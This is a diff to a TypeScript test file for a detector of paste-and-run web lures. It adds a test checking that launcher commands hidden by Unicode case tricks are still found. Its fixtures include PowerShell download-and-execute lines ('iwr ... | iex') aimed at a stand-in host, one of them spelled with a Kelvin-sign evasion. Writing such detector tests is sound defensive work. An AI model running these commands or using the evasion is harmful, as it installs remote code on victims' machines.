@@ -1,7 +1,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { cpuGrowth } from '../../test-support/growth.js';
-import { clipboardCommand, pageWords } from './clipboard.js';
+import { clipboardCommand, commandLineIn, pageWords } from './clipboard.js';
 import { analyzeHtml } from './index.js';
 
 const LIMITS = { maxPayloadBytes: 1 << 20 };
@@ -94,4 +94,22 @@ test('paste-and-run page: linear in the page (quotes, tags, references, launcher
     const ratio = cpuGrowth(make, (html) => { analyzeHtml(html, LIMITS); clipboardCommand(html); pageWords(html); }, 3_000);
     assert.ok(ratio < 40, `${JSON.stringify(unit)}: 10× the page took ${ratio.toFixed(1)}× the CPU`);
   }
+});
+
+test('commandLineIn: the launcher words asked of the text as written find what they find in its lower case', () => {
+  // The gate before the lower-case copy is exact only if no other character lower-cases to ASCII (session 40).
+  const toAscii: number[] = [];
+  for (let cp = 0x80; cp <= 0x10ffff; cp++) {
+    if (cp >= 0xd800 && cp <= 0xdfff) continue;
+    if (/[\x00-\x7f]/.test(String.fromCodePoint(cp).toLowerCase())) toAscii.push(cp);
+  }
+  assert.deepEqual(toAscii, [0x130, 0x212a]);
+  const rows: Array<[string, string | undefined]> = [
+    ['Press Win+R and paste: POWERSHELL -c IWR https://x.example/a | IEX', 'powershell -c iwr https://x.example/a | iex'],
+    // The Kelvin sign lower-cases to k: only the copy reads "invoke-webrequest" here.
+    ['Paste: Invo\u212ae-WebRequest https://x.example/a | iex', 'invoke-webrequest https://x.example/a | iex'],
+    ['Please confirm your order; curly quotes are fine.', undefined],
+    ['Nothing to run here.', undefined],
+  ];
+  for (const [text, line] of rows) assert.equal(commandLineIn(text)?.line, line, text);
 });
